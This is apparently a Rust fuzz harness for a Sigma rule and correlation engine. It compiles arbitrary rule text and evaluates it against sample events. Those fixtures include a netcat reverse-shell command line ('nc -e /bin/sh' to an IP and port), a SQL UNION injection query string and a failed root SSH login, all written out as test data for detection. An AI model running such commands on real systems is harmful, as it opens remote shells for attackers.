//! Sigma rules, filters and correlations.

use detect::correlation::{self, Limits, Tracker};
use detect::{Engine, Scratch, Source, cases};
use record::Kind;

/// Compiles a text of rules and runs what came of it over an event of each sort.
pub(crate) fn sigma(bytes: &[u8]) {
    let Ok(text) = std::str::from_utf8(bytes) else { return };
    let (engine, faults) = Engine::compile(&[Source { name: "hostile.yml".to_owned(), text: text.to_owned() }]);
    for fault in &faults {
        assert!(fault.named().contains("hostile.yml") || fault.named().contains("rules about"), "{}", fault.inside());
    }
    let (compiled, _) = correlation::compile(&engine);
    let mut tracker = Tracker::new(&compiled, Limits::default());
    let (mut scratch, mut hits, mut found) = (Scratch::new(), Vec::new(), Vec::new());
    let command = [("process.exe", "/usr/bin/nc"), ("process.cmd_line", "nc -e /bin/sh 198.51.100.7 4444")];
    let log = [("cs-method", "GET"), ("cs-uri-query", "id=1+UNION+SELECT"), ("sc-status", "200")];
    let events = [
        cases::event(Kind::Exec, &command).ok(),
        Some(cases::log("nginx", Some("GET /?id=1 HTTP/1.1"), &log)),
        Some(cases::log("sshd", Some("Failed password for root from 203.0.113.9 port 22 ssh2"), &[])),
    ];
    for event in events.iter().flatten() {
        engine.evaluate(event, &mut scratch, &mut hits);
        assert!(hits.windows(2).all(|two| two[0] < two[1]), "hits in order, each once");
        tracker.observe(event, "host", &hits, &mut found);
        for hit in &hits {
            engine.explain(*hit, event);
        }
    }
}
